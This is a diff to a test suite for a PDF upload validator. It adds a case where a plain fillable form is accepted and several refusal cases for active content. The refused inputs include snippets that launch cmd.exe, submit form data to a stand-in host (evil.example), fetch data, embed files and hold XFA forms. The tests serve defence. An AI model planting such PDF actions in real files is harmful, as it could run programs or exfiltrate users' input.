@@ -25,6 +25,13 @@ describe('a datasheet', () => {
     expect(await inspectPdf(plain)).toEqual({ ok: true, value: plain })
   })
 
+  test('may have fields to fill in and print', async () => {
+    const field = '7 0 << /FT /Tx /T (SoundLevel) /V () /AA << >> >>'
+    expect(
+      await refusalOf(pdf(`<< /AcroForm << /Fields [7 0 R] /NeedAppearances true >> >>${objectStream(field)}`)),
+    ).toBe('accepted')
+  })
+
   test('may link, and may speak of scripts in its text', async () => {
     expect(await refusalOf(pdf('<< /S /URI /URI (https://example.com/launch-day) /Title (JavaScript) >>'))).toBe(
       'accepted',
@@ -43,6 +50,13 @@ describe('a PDF that does more than show pages is refused', () => {
     ['a program to start', '<< /S /Launch /F (cmd.exe) >>'],
     ['an attached file', '<< /Names << /EmbeddedFiles 5 0 R >> >>'],
     ['media', '<< /Subtype /RichMedia >>'],
+    ['a film', '<< /Subtype /Movie /Movie << /F (a.avi) >> >>'],
+    ['a sound', '<< /S /Sound /Sound 6 0 R >>'],
+    ['a form of another kind, which may hold scripts', '<< /AcroForm << /Fields [] /XFA 6 0 R >> >>'],
+    ['such a form inside an object stream', objectStream('4 0 << /XFA [(template) 6 0 R] >>')],
+    ['a form that sends what was typed', '<< /S /SubmitForm /F (https://evil.example/) >>'],
+    ['a form that fetches data', '<< /S /ImportData /F (data.fdf) >>'],
+    ['a way into an attached file', '<< /S /GoToE /T << /R /C >> >>'],
   ])('%s', async (_, body) => {
     expect(await refusalOf(pdf(body))).toBe(uploadMessages.pdfActive)
   })
